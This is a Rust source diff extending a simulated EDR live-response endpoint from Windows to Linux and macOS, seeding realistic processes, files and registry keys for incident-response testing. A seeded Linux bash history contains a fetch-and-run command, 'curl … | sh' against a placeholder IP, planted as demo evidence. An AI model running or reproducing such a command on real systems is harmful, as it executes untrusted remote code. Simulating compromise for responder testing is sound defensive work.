@@ -1,5 +1,8 @@
-//! One simulated Windows device: processes, files and registry, and how live-response
-//! commands, edrgate's helper scripts and arbitrary library scripts act on them.
+//! One simulated device (Windows, Linux or macOS): processes, files and registry, and how
+//! live-response commands, edrgate's helper scripts and arbitrary library scripts act on them.
+//! Every machine starts with what a responder looks at first on its system (system binaries,
+//! the hosts file, user profiles, the system processes, the autostart registry keys), not only
+//! the demo's evidence.
 
 use std::collections::BTreeMap;
 
@@ -28,7 +31,7 @@ pub(crate) const HR_FILE_NOT_FOUND: i32 = 0x8007_0002_u32 as i32;
 pub(crate) const HR_ACCESS_DENIED: i32 = 0x8007_0005_u32 as i32;
 pub(crate) const HR_TIMEOUT: i32 = 0x8007_05B4_u32 as i32;
 /// A PowerShell terminating error (`throw`): the HResult of a .NET exception (`0x80131500`).
-const HR_SCRIPT_THREW: i32 = 0x8013_1500_u32 as i32;
+pub(crate) const HR_SCRIPT_THREW: i32 = 0x8013_1500_u32 as i32;
 
 #[derive(Clone, Debug)]
 pub(crate) struct Process {
@@ -53,15 +56,99 @@ pub(crate) struct RegKey {
     pub(crate) values: BTreeMap<String, (String, String, Value)>,
 }
 
+/// The system a machine runs, from its `osPlatform` (§10: `Windows10`, `Windows11`,
+/// `WindowsServer2022`, `Linux`, `macOS`, …).
+#[derive(Clone, Copy, Debug, PartialEq, Eq)]
+pub(crate) enum Family {
+    Windows,
+    Linux,
+    MacOs,
+}
+
+impl Family {
+    pub(crate) fn of(os_platform: &str) -> Family {
+        match os_platform.to_ascii_lowercase().as_str() {
+            "linux" => Family::Linux,
+            "macos" => Family::MacOs,
+            _ => Family::Windows,
+        }
+    }
+}
+
+/// The lines PowerShell's `Set-AuthenticodeSignature` appends around a script's signature
+/// (about_Signing). The simulator does not verify the signature: a block is a signature.
+const SIGNATURE_BEGIN: &str = "# SIG # Begin signature block";
+const SIGNATURE_END: &str = "# SIG # End signature block";
+
+/// Whether a script carries a signature block.
+pub(crate) fn is_signed(source: &[u8]) -> bool {
+    let text = String::from_utf8_lossy(source);
+    text.find(SIGNATURE_BEGIN).is_some_and(|at| text[at..].contains(SIGNATURE_END))
+}
+
+/// PowerShell's refusal of an unsigned script under the `AllSigned` execution policy, which
+/// the sensor starts library scripts with (`powershell.exe -ExecutionPolicy AllSigned …`, the
+/// sensor's command line as published in gist johnjohnsp1/5850a4ed…) when the tenant does not
+/// allow unsigned scripts. The text is PowerShell's `UnauthorizedAccess` message; that the
+/// command then fails with it in `errors[]` is the simulator's reading \[U\].
+pub(crate) fn unsigned_refusal(name: &str) -> String {
+    let path = format!(
+        r"C:\ProgramData\Microsoft\Windows Defender Advanced Threat Protection\DataCollection\{name}"
+    );
+    format!(
+        "File {path} cannot be loaded. The file {path} is not digitally signed. You cannot run this script on the current system. For more information about running scripts and setting execution policy, see about_Execution_Policies at https:/go.microsoft.com/fwlink/?LinkID=135170."
+    )
+}
+
+/// The pid of `WmiPrvSE.exe`, the parent of processes `Win32_Process.Create` starts (the
+/// model does not list it itself).
+const WMI_PROVIDER_HOST: u64 = 3344;
+
+/// Whether a script starts its processes outside the live-response session's job object: by
+/// WMI (`Win32_Process` `Create`, through `Invoke-CimMethod` / `Invoke-WmiMethod`) or a
+/// scheduled task, whose processes the WMI or Task Scheduler service creates. A process a
+/// script starts as its own child (`Process.Start`, `Start-Process`, `&`) is in the session's
+/// job and is terminated when the session ends: "In a remote invocation, the remote session
+/// ending automatically terminates processes launched via Start-Process"
+/// (MicrosoftDocs/PowerShell-Docs#8020, explaining PowerShell/PowerShell#16001); "If you want
+/// something to outlive the PSSession then the only 2 real ways I know off are using a
+/// scheduled task [or] using `Win32_Process.Create` with `Invoke-CimMethod`"
+/// (jborean93/pypsrp#106). Live response runs scripts in such a session \[I\]/\[U\].
+pub(crate) fn starts_detached(source: &[u8]) -> bool {
+    let text = String::from_utf8_lossy(source).to_ascii_lowercase();
+    let wmi = text.contains("win32_process")
+        && text.contains("create")
+        && (text.contains("invoke-cimmethod") || text.contains("invoke-wmimethod"));
+    wmi || text.contains("register-scheduledtask") || text.contains("schtasks")
+}
+
+/// Which edrgate helper a library script is: its content, or a signed copy of it (the content
+/// followed by a signature block; line endings aside).
+fn helper_of(source: &[u8]) -> Option<Helper> {
+    if let Some(h) = Helper::from_source(source) {
+        return Some(h);
+    }
+    let text = String::from_utf8_lossy(source);
+    let text = text.trim_start_matches('\u{feff}');
+    let at = text.find(SIGNATURE_BEGIN)?;
+    let body = text[..at].replace("\r\n", "\n");
+    Helper::ALL.into_iter().find(|h| h.source().trim_end() == body.trim_end())
+}
+
 #[derive(Clone, Debug)]
 pub(crate) struct Endpoint {
     pub(crate) hostname: String,
+    pub(crate) family: Family,
     pub(crate) processes: BTreeMap<u64, Process>,
     /// lower-case path → node
     pub(crate) files: BTreeMap<String, Node>,
     /// lower-case key → key
     pub(crate) registry: BTreeMap<String, RegKey>,
     next_pid: u64,
+    /// Processes a script started as its own children during the live-response action now
+    /// running: they are in the session's job object and die when it ends
+    /// ([`Endpoint::end_session`]).
+    session_bound: Vec<u64>,
 }
 
 /// What a live-response command did.
@@ -83,92 +170,267 @@ pub(crate) struct HelperRun {
     pub(crate) output: HelperOutput,
 }
 
+/// The map key of a path: Windows paths case-insensitively, POSIX ones (starting with `/`)
+/// as they are.
 fn key(path: &str) -> String {
-    path.trim_end_matches('\\').to_ascii_lowercase()
+    if path.starts_with('/') {
+        let t = path.trim_end_matches('/');
+        if t.is_empty() { "/".to_owned() } else { t.to_owned() }
+    } else {
+        path.trim_end_matches('\\').to_ascii_lowercase()
+    }
 }
 
 impl Endpoint {
-    pub(crate) fn new(hostname: &str, big_file_size: u64) -> Self {
+    /// The live-response action running here ended (finished, failed, timed out or was
+    /// cancelled): its session's job object closes and the processes it holds die.
+    pub(crate) fn end_session(&mut self) {
+        for pid in std::mem::take(&mut self.session_bound) {
+            self.processes.remove(&pid);
+        }
+    }
+
+    pub(crate) fn new(hostname: &str, big_file_size: u64, family: Family) -> Self {
         let mut e = Endpoint {
             hostname: hostname.to_owned(),
+            family,
             processes: BTreeMap::new(),
             files: BTreeMap::new(),
             registry: BTreeMap::new(),
             next_pid: 5000,
+            session_bound: Vec::new(),
         };
+        match family {
+            Family::Windows => e.seed_windows(big_file_size),
+            Family::Linux => e.seed_linux(big_file_size),
+            Family::MacOs => e.seed_macos(big_file_size),
+        }
+        e
+    }
+
+    fn add_process(&mut self, pid: u64, ppid: u64, name: &str, path: &str, user: &str) {
+        self.processes.insert(
+            pid,
+            Process { pid, ppid, name: name.into(), path: path.into(), user: user.into() },
+        );
+    }
+
+    fn add_dir(&mut self, path: &str) {
+        let path = if path.len() > 1 { path.trim_end_matches(['\\', '/']) } else { path };
+        self.files
+            .insert(key(path), Node { path: path.to_owned(), dir: true, content: Vec::new() });
+    }
+
+    fn add_file(&mut self, path: &str, content: Vec<u8>) {
+        self.files.insert(key(path), Node { path: path.to_owned(), dir: false, content });
+    }
+
+    /// A registry key with its values, and its parent keys (so listings find it).
+    fn add_key(&mut self, k: &str, values: Vec<(&str, &str, Value)>) {
+        let mut acc = String::new();
+        for part in k.split('\\') {
+            if !acc.is_empty() {
+                acc.push('\\');
+            }
+            acc.push_str(part);
+            self.registry
+                .entry(key(&acc))
+                .or_insert_with(|| RegKey { name: acc.clone(), values: BTreeMap::new() });
+        }
+        if let Some(rk) = self.registry.get_mut(&key(k)) {
+            for (n, t, d) in values {
+                rk.values.insert(n.to_ascii_lowercase(), (n.into(), t.into(), d));
+            }
+        }
+    }
+
+    fn seed_windows(&mut self, big_file_size: u64) {
         let system = "NT AUTHORITY\\SYSTEM";
+        let local = "NT AUTHORITY\\LOCAL SERVICE";
+        let network = "NT AUTHORITY\\NETWORK SERVICE";
+        let sys32 = |exe: &str| format!("C:\\Windows\\System32\\{exe}");
         for (pid, ppid, name, path, user) in [
-            (4, 0, "System", "", system),
-            (388, 4, "smss.exe", "C:\\Windows\\System32\\smss.exe", system),
-            (520, 512, "csrss.exe", "C:\\Windows\\System32\\csrss.exe", system),
-            (612, 512, "wininit.exe", "C:\\Windows\\System32\\wininit.exe", system),
-            (700, 612, "lsass.exe", "C:\\Windows\\System32\\lsass.exe", system),
-            (812, 612, "services.exe", "C:\\Windows\\System32\\services.exe", system),
-            (904, 812, "svchost.exe", "C:\\Windows\\System32\\svchost.exe", system),
+            (4, 0, "System", String::new(), system),
+            (104, 4, "Registry", String::new(), system),
+            (388, 4, "smss.exe", sys32("smss.exe"), system),
+            (520, 512, "csrss.exe", sys32("csrss.exe"), system),
+            (612, 512, "wininit.exe", sys32("wininit.exe"), system),
+            (628, 604, "csrss.exe", sys32("csrss.exe"), system),
+            (668, 604, "winlogon.exe", sys32("winlogon.exe"), system),
+            (700, 612, "lsass.exe", sys32("lsass.exe"), system),
+            (812, 612, "services.exe", sys32("services.exe"), system),
+            (904, 812, "svchost.exe", sys32("svchost.exe"), system),
+            (968, 812, "svchost.exe", sys32("svchost.exe"), network),
+            (1012, 812, "svchost.exe", sys32("svchost.exe"), local),
+            (1096, 668, "dwm.exe", sys32("dwm.exe"), "Window Manager\\DWM-1"),
+            (1532, 812, "spoolsv.exe", sys32("spoolsv.exe"), system),
+            (
+                2844,
+                812,
+                "MsMpEng.exe",
+                "C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24090.11-0\\MsMpEng.exe"
+                    .into(),
+                system,
+            ),
             (
                 2960,
                 812,
                 "MsSense.exe",
-                "C:\\Program Files\\Windows Defender Advanced Threat Protection\\MsSense.exe",
+                "C:\\Program Files\\Windows Defender Advanced Threat Protection\\MsSense.exe".into(),
                 system,
             ),
-            (3120, 3100, "explorer.exe", "C:\\Windows\\explorer.exe", "CONTOSO\\alice"),
-            (4242, 3120, "notepad.exe", "C:\\Windows\\System32\\notepad.exe", "CONTOSO\\alice"),
+            (3120, 3100, "explorer.exe", "C:\\Windows\\explorer.exe".into(), "CONTOSO\\alice"),
+            (3388, 904, "taskhostw.exe", sys32("taskhostw.exe"), "CONTOSO\\alice"),
+            (4242, 3120, "notepad.exe", sys32("notepad.exe"), "CONTOSO\\alice"),
             // The demo's suspicious process, the same on every simulator (pid, path), so one
             // request body acts alike on a Carbon Black, a Defender and a Cybereason device.
             (
                 3012,
                 3120,
                 "updater.exe",
-                "C:\\Users\\jdoe\\AppData\\Local\\Temp\\updater.exe",
+                "C:\\Users\\jdoe\\AppData\\Local\\Temp\\updater.exe".into(),
                 "CONTOSO\\jdoe",
             ),
         ] {
-            e.processes.insert(
-                pid,
-                Process { pid, ppid, name: name.into(), path: path.into(), user: user.into() },
-            );
+            self.add_process(pid, ppid, name, &path, user);
         }
         for dir in [
             "C:\\",
             "C:\\Windows",
             "C:\\Windows\\System32",
             "C:\\Windows\\System32\\config",
+            "C:\\Windows\\System32\\drivers",
+            "C:\\Windows\\System32\\drivers\\etc",
+            "C:\\Windows\\System32\\Tasks",
+            "C:\\Windows\\System32\\winevt",
+            "C:\\Windows\\System32\\winevt\\Logs",
+            "C:\\Windows\\System32\\WindowsPowerShell",
+            "C:\\Windows\\System32\\WindowsPowerShell\\v1.0",
+            "C:\\Windows\\SysWOW64",
+            "C:\\Windows\\Prefetch",
             "C:\\Windows\\Temp",
+            "C:\\Program Files",
+            "C:\\Program Files\\Windows Defender",
+            "C:\\Program Files\\Windows Defender Advanced Threat Protection",
+            "C:\\Program Files (x86)",
             "C:\\Users",
+            "C:\\Users\\Default",
             "C:\\Users\\Public",
+            "C:\\Users\\Public\\Documents",
             "C:\\evidence",
-            "C:\\Users\\jdoe",
-            "C:\\Users\\jdoe\\AppData",
-            "C:\\Users\\jdoe\\AppData\\Local",
-            "C:\\Users\\jdoe\\AppData\\Local\\Temp",
             "C:\\ProgramData",
             "C:\\ProgramData\\Microsoft",
+            "C:\\ProgramData\\Microsoft\\Windows",
+            "C:\\ProgramData\\Microsoft\\Windows\\Start Menu",
+            "C:\\ProgramData\\Microsoft\\Windows\\Start Menu\\Programs",
+            "C:\\ProgramData\\Microsoft\\Windows\\Start Menu\\Programs\\StartUp",
             "C:\\ProgramData\\Microsoft\\Windows Defender Advanced Threat Protection",
             PUTFILE_WORKING_DIR,
         ] {
-            e.files.insert(
-                key(dir),
-                Node {
-                    path: dir.trim_end_matches('\\').to_owned(),
-                    dir: true,
-                    content: Vec::new(),
-                },
-            );
+            self.add_dir(dir);
+        }
+        for user in ["alice", "jdoe"] {
+            for sub in [
+                "",
+                "\\Desktop",
+                "\\Documents",
+                "\\Downloads",
+                "\\AppData",
+                "\\AppData\\Local",
+                "\\AppData\\Local\\Temp",
+                "\\AppData\\Roaming",
+                "\\AppData\\Roaming\\Microsoft",
+                "\\AppData\\Roaming\\Microsoft\\Windows",
+                "\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu",
+                "\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs",
+                "\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup",
+            ] {
+                self.add_dir(&format!("C:\\Users\\{user}{sub}"));
+            }
+            self.add_file(&format!("C:\\Users\\{user}\\NTUSER.DAT"), b"regf".to_vec());
         }
         let big: Vec<u8> = (0..big_file_size).map(|i| (i % 251) as u8).collect();
+        let pe = |name: &str| format!("MZ\x00\x00{name}").into_bytes();
         for (path, content) in [
-            ("C:\\evidence\\note.txt", NOTE_TXT.to_vec()),
-            ("C:\\evidence\\big.bin", big),
-            ("C:\\Windows\\System32\\notepad.exe", b"MZ\x90\x00notepad".to_vec()),
-            ("C:\\Users\\jdoe\\AppData\\Local\\Temp\\updater.exe", b"MZ\x90\x00updater".to_vec()),
-            ("C:\\Windows\\System32\\config\\SAM", b"regf".to_vec()),
+            ("C:\\evidence\\note.txt".to_owned(), NOTE_TXT.to_vec()),
+            ("C:\\evidence\\big.bin".to_owned(), big),
+            ("C:\\Windows\\explorer.exe".to_owned(), pe("explorer")),
+            ("C:\\Windows\\System32\\notepad.exe".to_owned(), b"MZ\x90\x00notepad".to_vec()),
+            (
+                "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe".to_owned(),
+                pe("powershell"),
+            ),
+            (
+                "C:\\Windows\\System32\\drivers\\etc\\hosts".to_owned(),
+                b"# Copyright (c) 1993-2009 Microsoft Corp.\r\n#\r\n# This is a sample HOSTS file used by Microsoft TCP/IP for Windows.\r\n#\r\n# localhost name resolution is handled within DNS itself.\r\n#\t127.0.0.1       localhost\r\n#\t::1             localhost\r\n".to_vec(),
+            ),
+            (
+                "C:\\Windows\\System32\\drivers\\etc\\services".to_owned(),
+                b"echo                7/tcp\r\nftp                21/tcp\r\nssh                22/tcp\r\nhttp               80/tcp    www\r\n".to_vec(),
+            ),
+            ("C:\\Windows\\System32\\drivers\\tcpip.sys".to_owned(), pe("tcpip")),
+            ("C:\\Windows\\System32\\winevt\\Logs\\Security.evtx".to_owned(), b"ElfFile\x00".to_vec()),
+            ("C:\\Windows\\System32\\winevt\\Logs\\System.evtx".to_owned(), b"ElfFile\x00".to_vec()),
+            ("C:\\Windows\\System32\\winevt\\Logs\\Application.evtx".to_owned(), b"ElfFile\x00".to_vec()),
+            (
+                "C:\\Windows\\System32\\winevt\\Logs\\Microsoft-Windows-PowerShell%4Operational.evtx"
+                    .to_owned(),
+                b"ElfFile\x00".to_vec(),
+            ),
+            ("C:\\Users\\jdoe\\AppData\\Local\\Temp\\updater.exe".to_owned(), b"MZ\x90\x00updater".to_vec()),
+            ("C:\\Windows\\System32\\config\\SAM".to_owned(), b"regf".to_vec()),
+            ("C:\\Windows\\System32\\config\\SYSTEM".to_owned(), b"regf".to_vec()),
+            ("C:\\Windows\\System32\\config\\SOFTWARE".to_owned(), b"regf".to_vec()),
+            ("C:\\Windows\\System32\\config\\SECURITY".to_owned(), b"regf".to_vec()),
         ] {
-            e.files.insert(key(path), Node { path: path.into(), dir: false, content });
+            self.add_file(&path, content);
         }
+        for exe in [
+            "cmd.exe",
+            "smss.exe",
+            "csrss.exe",
+            "wininit.exe",
+            "winlogon.exe",
+            "services.exe",
+            "lsass.exe",
+            "svchost.exe",
+            "dwm.exe",
+            "spoolsv.exe",
+            "taskhostw.exe",
+            "rundll32.exe",
+            "reg.exe",
+            "schtasks.exe",
+            "kernel32.dll",
+            "ntdll.dll",
+        ] {
+            self.add_file(&format!("C:\\Windows\\System32\\{exe}"), pe(exe));
+        }
+        let host = self.hostname.split('.').next().unwrap_or_default().to_ascii_uppercase();
+        let cv = "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion";
+        let user_run = "HKU\\S-1-5-21-1004-1001\\Software\\Microsoft\\Windows\\CurrentVersion";
         for (k, values) in [
-            ("HKLM\\SOFTWARE", vec![]),
-            ("HKLM\\SOFTWARE\\Microsoft", vec![]),
+            ("HKLM\\SOFTWARE\\Classes", vec![]),
+            ("HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender", vec![]),
+            (
+                "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion",
+                vec![
+                    ("ProductName", "REG_SZ", json!("Windows 10 Enterprise")),
+                    ("DisplayVersion", "REG_SZ", json!("23H2")),
+                    ("CurrentBuild", "REG_SZ", json!("22631")),
+                    ("RegisteredOwner", "REG_SZ", json!("Contoso")),
+                ],
+            ),
+            (
+                "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon",
+                vec![
+                    ("Shell", "REG_SZ", json!("explorer.exe")),
+                    ("Userinit", "REG_SZ", json!("C:\\Windows\\system32\\userinit.exe,")),
+                ],
+            ),
+            (
+                "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options",
+                vec![],
+            ),
             (
                 "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run",
                 vec![(
@@ -185,6 +447,11 @@ impl Endpoint {
                     json!("C:\\Users\\jdoe\\AppData\\Local\\Temp\\updater.exe"),
                 )],
             ),
+            ("HKLM\\SOFTWARE\\WOW6432Node\\Microsoft\\Windows\\CurrentVersion\\Run", vec![]),
+            (
+                "HKLM\\SYSTEM\\CurrentControlSet\\Control\\ComputerName\\ComputerName",
+                vec![("ComputerName", "REG_SZ", json!(host))],
+            ),
             (
                 "HKLM\\SYSTEM\\CurrentControlSet\\Services\\Sense",
                 vec![
@@ -198,14 +465,218 @@ impl Endpoint {
                     ),
                 ],
             ),
+            (
+                "HKLM\\SYSTEM\\CurrentControlSet\\Services\\WinDefend",
+                vec![("Start", "REG_DWORD", json!(2))],
+            ),
+            (
+                "HKLM\\SYSTEM\\CurrentControlSet\\Services\\EventLog",
+                vec![("Start", "REG_DWORD", json!(2))],
+            ),
+            ("HKU\\.DEFAULT\\Software\\Microsoft", vec![]),
         ] {
-            let mut rk = RegKey { name: k.into(), values: BTreeMap::new() };
-            for (n, t, d) in values {
-                rk.values.insert(n.to_ascii_lowercase(), (n.into(), t.into(), d));
-            }
-            e.registry.insert(key(k), rk);
+            self.add_key(k, values);
         }
-        e
+        self.add_key(
+            &format!("{cv}\\Policies\\System"),
+            vec![("EnableLUA", "REG_DWORD", json!(1))],
+        );
+        self.add_key(&format!("{user_run}\\Run"), vec![]);
+        self.add_key(&format!("{user_run}\\RunOnce"), vec![]);
+    }
+
+    fn seed_linux(&mut self, big_file_size: u64) {
+        for (pid, ppid, name, path, user) in [
+            (1, 0, "systemd", "/usr/lib/systemd/systemd", "root"),
+            (2, 0, "kthreadd", "", "root"),
+            (412, 1, "systemd-journald", "/usr/lib/systemd/systemd-journald", "root"),
+            (598, 1, "systemd-logind", "/usr/lib/systemd/systemd-logind", "root"),
+            (601, 1, "rsyslogd", "/usr/sbin/rsyslogd", "syslog"),
+            (655, 1, "cron", "/usr/sbin/cron", "root"),
+            (702, 1, "sshd", "/usr/sbin/sshd", "root"),
+            (880, 1, "wdavdaemon", "/opt/microsoft/mdatp/sbin/wdavdaemon", "root"),
+            (1433, 702, "sshd", "/usr/sbin/sshd", "jdoe"),
+            (1510, 1433, "bash", "/usr/bin/bash", "jdoe"),
+        ] {
+            self.add_process(pid, ppid, name, path, user);
+        }
+        for dir in [
+            "/",
+            "/bin",
+            "/boot",
+            "/dev",
+            "/etc",
+            "/etc/cron.d",
+            "/etc/ssh",
+            "/etc/systemd",
+            "/etc/systemd/system",
+            "/home",
+            "/home/jdoe",
+            "/home/jdoe/.ssh",
+            "/opt",
+            "/opt/microsoft",
+            "/opt/microsoft/mdatp",
+            "/opt/microsoft/mdatp/sbin",
+            "/proc",
+            "/root",
+            "/tmp",
+            "/usr",
+            "/usr/bin",
+            "/usr/lib",
+            "/usr/sbin",
+            "/var",
+            "/var/log",
+            "/var/tmp",
+            "/evidence",
+        ] {
+            self.add_dir(dir);
+        }
+        let elf = |name: &str| format!("\x7fELF{name}").into_bytes();
+        let big: Vec<u8> = (0..big_file_size).map(|i| (i % 251) as u8).collect();
+        let host = self.hostname.clone();
+        for (path, content) in [
+            ("/etc/passwd", b"root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\nsyslog:x:104:110::/home/syslog:/usr/sbin/nologin\nsshd:x:110:65534::/run/sshd:/usr/sbin/nologin\njdoe:x:1000:1000:John Doe,,,:/home/jdoe:/bin/bash\n".to_vec()),
+            ("/etc/group", b"root:x:0:\nsudo:x:27:jdoe\njdoe:x:1000:\n".to_vec()),
+            ("/etc/hosts", format!("127.0.0.1 localhost\n127.0.1.1 {host}\n::1 localhost ip6-localhost ip6-loopback\n").into_bytes()),
+            ("/etc/hostname", format!("{host}\n").into_bytes()),
+            ("/etc/os-release", b"PRETTY_NAME=\"Ubuntu 22.04.4 LTS\"\nNAME=\"Ubuntu\"\nVERSION_ID=\"22.04\"\nID=ubuntu\n".to_vec()),
+            ("/etc/crontab", b"SHELL=/bin/sh\nPATH=/usr/local/sbin:/usr/local/bin:/sbin:/bin:/usr/sbin:/usr/bin\n17 * * * * root cd / && run-parts --report /etc/cron.hourly\n".to_vec()),
+            ("/etc/ssh/sshd_config", b"Include /etc/ssh/sshd_config.d/*.conf\nPasswordAuthentication no\nKbdInteractiveAuthentication no\n".to_vec()),
+            ("/var/log/syslog", format!("Jan  5 08:00:01 {host} systemd[1]: Started Microsoft Defender for Endpoint.\nJan  5 08:17:01 {host} CRON[2211]: (root) CMD (cd / && run-parts --report /etc/cron.hourly)\n").into_bytes()),
+            ("/var/log/auth.log", format!("Jan  5 08:02:11 {host} sshd[1433]: Accepted publickey for jdoe from 10.0.0.5 port 52144 ssh2\n").into_bytes()),
+            ("/home/jdoe/.bash_history", b"ls -la\nsudo -l\ncurl -s http://198.51.100.7/x.sh | sh\n".to_vec()),
+            ("/home/jdoe/.ssh/authorized_keys", b"ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIEdrgateSimKey jdoe@laptop\n".to_vec()),
+            ("/root/.bash_history", b"apt update\n".to_vec()),
+            ("/evidence/note.txt", NOTE_TXT.to_vec()),
+            ("/evidence/big.bin", big),
+        ] {
+            self.add_file(path, content);
+        }
+        for bin in [
+            "/bin/bash",
+            "/bin/sh",
+            "/usr/bin/bash",
+            "/usr/bin/python3",
+            "/usr/bin/curl",
+            "/usr/sbin/sshd",
+            "/usr/sbin/cron",
+            "/usr/sbin/rsyslogd",
+            "/usr/lib/systemd/systemd",
+            "/opt/microsoft/mdatp/sbin/wdavdaemon",
+        ] {
+            let name = bin.rsplit('/').next().unwrap_or_default();
+            self.add_file(bin, elf(name));
+        }
+    }
+
+    fn seed_macos(&mut self, big_file_size: u64) {
+        let defender = "/Library/Application Support/Microsoft/Defender";
+        for (pid, ppid, name, path, user) in [
+            (1, 0, "launchd", "/sbin/launchd".to_owned(), "root"),
+            (88, 1, "logd", "/usr/libexec/logd".to_owned(), "root"),
+            (
+                152,
+                1,
+                "WindowServer",
+                "/System/Library/PrivateFrameworks/SkyLight.framework/Resources/WindowServer"
+                    .to_owned(),
+                "_windowserver",
+            ),
+            (
+                160,
+                1,
+                "loginwindow",
+                "/System/Library/CoreServices/loginwindow.app/Contents/MacOS/loginwindow"
+                    .to_owned(),
+                "alice",
+            ),
+            (412, 1, "wdavdaemon", format!("{defender}/wdavdaemon"), "root"),
+            (
+                620,
+                1,
+                "Finder",
+                "/System/Library/CoreServices/Finder.app/Contents/MacOS/Finder".to_owned(),
+                "alice",
+            ),
+            (910, 1, "zsh", "/bin/zsh".to_owned(), "alice"),
+        ] {
+            self.add_process(pid, ppid, name, &path, user);
+        }
+        for dir in [
+            "/",
+            "/Applications",
+            "/Applications/Safari.app",
+            "/Applications/Microsoft Defender.app",
+            "/Library",
+            "/Library/Application Support",
+            "/Library/Application Support/Microsoft",
+            defender,
+            "/Library/LaunchAgents",
+            "/Library/LaunchDaemons",
+            "/System",
+            "/System/Library",
+            "/System/Library/CoreServices",
+            "/System/Library/CoreServices/Finder.app",
+            "/System/Library/LaunchDaemons",
+            "/Users",
+            "/Users/Shared",
+            "/Users/alice",
+            "/Users/alice/Desktop",
+            "/Users/alice/Documents",
+            "/Users/alice/Downloads",
+            "/Users/alice/Library",
+            "/Users/alice/Library/LaunchAgents",
+            "/bin",
+            "/etc",
+            "/private",
+            "/private/etc",
+            "/private/var",
+            "/private/var/log",
+            "/tmp",
+            "/usr",
+            "/usr/bin",
+            "/var",
+            "/var/log",
+            "/evidence",
+        ] {
+            self.add_dir(dir);
+        }
+        let macho = |name: &str| [&[0xcf, 0xfa, 0xed, 0xfe][..], name.as_bytes()].concat();
+        let big: Vec<u8> = (0..big_file_size).map(|i| (i % 251) as u8).collect();
+        let host = self.hostname.clone();
+        let passwd = b"nobody:*:-2:-2:Unprivileged User:/var/empty:/usr/bin/false\nroot:*:0:0:System Administrator:/var/root:/bin/sh\n_windowserver:*:88:88:WindowServer:/var/empty:/usr/bin/false\n".to_vec();
+        let hosts =
+            b"127.0.0.1\tlocalhost\n255.255.255.255\tbroadcasthost\n::1             localhost\n"
+                .to_vec();
+        let log =
+            format!("Jan  5 08:00:01 {host} syslogd[88]: ASL Sender Statistics\n").into_bytes();
+        for (path, content) in [
+            ("/etc/passwd", passwd.clone()),
+            ("/private/etc/passwd", passwd),
+            ("/etc/hosts", hosts.clone()),
+            ("/private/etc/hosts", hosts),
+            ("/var/log/system.log", log.clone()),
+            ("/private/var/log/system.log", log),
+            ("/var/log/install.log", b"Jan  5 08:00:00 installer[412]: Microsoft Defender installed\n".to_vec()),
+            ("/System/Library/CoreServices/SystemVersion.plist", b"<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<plist version=\"1.0\"><dict><key>ProductName</key><string>macOS</string><key>ProductVersion</key><string>14.4</string></dict></plist>\n".to_vec()),
+            ("/Users/alice/.zsh_history", b": 1704441600:0;ls -la\n: 1704441610:0;open ~/Downloads\n".to_vec()),
+            ("/evidence/note.txt", NOTE_TXT.to_vec()),
+            ("/evidence/big.bin", big),
+        ] {
+            self.add_file(path, content);
+        }
+        for bin in [
+            "/bin/bash",
+            "/bin/zsh",
+            "/bin/sh",
+            "/usr/bin/curl",
+            "/usr/bin/python3",
+            "/sbin/launchd",
+        ] {
+            let name = bin.rsplit('/').next().unwrap_or_default();
+            self.add_file(bin, macho(name));
+        }
+        self.add_file(&format!("{defender}/wdavdaemon"), macho("wdavdaemon"));
     }
 
     pub(crate) fn file(&self, path: &str) -> Option<&Node> {
@@ -255,10 +726,13 @@ impl Endpoint {
         source: &[u8],
     ) -> (Outcome, Option<HelperRun>) {
         let mut run = None;
-        let (exit_code, output, errors) = match Helper::from_source(source) {
+        // edrgate's helpers are PowerShell: on Linux and macOS, where live response runs
+        // shell scripts, they are just another script (printing no result line) [U].
+        let helper = if self.family == Family::Windows { helper_of(source) } else { None };
+        let (exit_code, output, errors) = match helper {
             Some(helper) => {
                 let params = decode_params(args);
-                let out = self.helper(helper, &params);
+                let out = self.helper(helper, &params, source);
                 // The scripts `exit 1` after a failure; Defender reports the exit code in the
                 // result and the command still completes (only a terminating error fails it).
                 let code = if out.ok { 0 } else { 1 };
@@ -288,7 +762,7 @@ impl Endpoint {
         (Outcome::Completed(Some(serde_json::to_vec(&blob).unwrap_or_default())), run)
     }
 
-    fn helper(&mut self, helper: Helper, p: &Value) -> HelperOutput {
+    fn helper(&mut self, helper: Helper, p: &Value, source: &[u8]) -> HelperOutput {
         let s = |k: &str| p.get(k).and_then(Value::as_str).unwrap_or_default().to_owned();
         let result = match helper {
             Helper::ProcessList => Ok(HelperOutput {
@@ -337,11 +811,17 @@ impl Endpoint {
                 let (exit_code, output) = simulate_command(&line, &self.hostname);
                 if !wait {
                     let name = line.split_whitespace().next().unwrap_or("cmd.exe").to_owned();
+                    // Started by the WMI service, the process is outside the session's job
+                    // object and survives it; started as the script's child, it dies with it.
+                    let detached = starts_detached(source);
+                    if !detached {
+                        self.session_bound.push(pid);
+                    }
                     self.processes.insert(
                         pid,
                         Process {
                             pid,
-                            ppid: 2960,
+                            ppid: if detached { WMI_PROVIDER_HOST } else { 2960 },
                             name,
                             path: String::new(),
                             user: "NT AUTHORITY\\SYSTEM".into(),
@@ -678,4 +1158,41 @@ pub(crate) fn gzip(bytes: &[u8]) -> Vec<u8> {
     let mut enc = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
     let _ = enc.write_all(bytes);
     enc.finish().unwrap_or_default()
+}
+
+#[cfg(test)]
+mod session_tests {
+    use super::*;
+
+    fn execute(e: &mut Endpoint, source: &[u8]) -> u64 {
+        let p = json!({"command_line": "ping -t 127.0.0.1", "wait": false});
+        let out = e.helper(Helper::Execute, &p, source);
+        assert!(out.ok, "{out:?}");
+        out.pid.unwrap_or_default()
+    }
+
+    #[test]
